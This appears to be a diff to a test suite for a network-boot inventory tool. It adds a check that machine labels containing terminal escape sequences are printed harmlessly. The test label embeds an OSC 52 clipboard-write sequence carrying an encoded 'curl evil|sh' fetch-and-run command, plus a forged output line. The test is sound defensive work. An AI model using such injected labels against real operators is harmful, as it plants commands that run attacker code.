@@ -704,7 +704,7 @@ async def _strangers_text(cfg: str) -> None:
     strings), its installer's event message, and the audit entry of a refused request whose
     path it chose (``POST /api/v1/machines/<ref>/events``: the target is the ref)."""
     from netboot.inventory.base import Batch
-    from netboot.model import Event, MacAddress, Machine
+    from netboot.model import Event, MacAddress, Machine, MachineState
 
     store = SqliteStore(load(cfg, env={}).db_path)
     await store.open()
@@ -717,6 +717,11 @@ async def _strangers_text(cfg: str) -> None:
                                                     "ok\x1b[1A\rforged event"),)))
         await Access(store).record("-", "POST /api/v1/machines/{ref}/events",
                                    "\x1b[2J\nforged target", peer="192.0.2.9", outcome="400")
+        # As an enroll token's import makes one (a factory scanner: create only), with labels
+        # of its choosing: the API takes any text in a label.
+        await store.create_machine(Machine(
+            macs=(MacAddress.parse("02:00:00:00:00:0a"),), state=MachineState.ENROLLED,
+            hostname="scanned-1", labels={"rack": "r1\x1b]52;c;Y3VybCBldmlsfHNo\x07\nforged"}))
     finally:
         await store.close()
 
@@ -735,6 +740,13 @@ def test_a_strangers_text_cannot_drive_the_operators_terminal(
                        for line in out.splitlines()), out
     assert "S1\\x0astate          registered\\x1b[2J" in run(
         capsys, "machines", "show", "02:00:00:00:00:09", "--config", cfg)[1]
+    # `machines set --label` prints every label the machine keeps: as they were, a scanner's
+    # label wrote the operator's clipboard (OSC 52) and forged a line (s38-attack).
+    rc, out, err = run(capsys, "machines", "set", "02:00:00:00:00:0a", "--label", "room=a",
+                       "--config", cfg)
+    assert rc == 0, err
+    assert all(line.isprintable() for line in out.splitlines()), out
+    assert len(out.splitlines()) == 1 and "\\x1b]52" in out, out
 
 
 async def _authenticate(cfg: str, token: str) -> Principal:
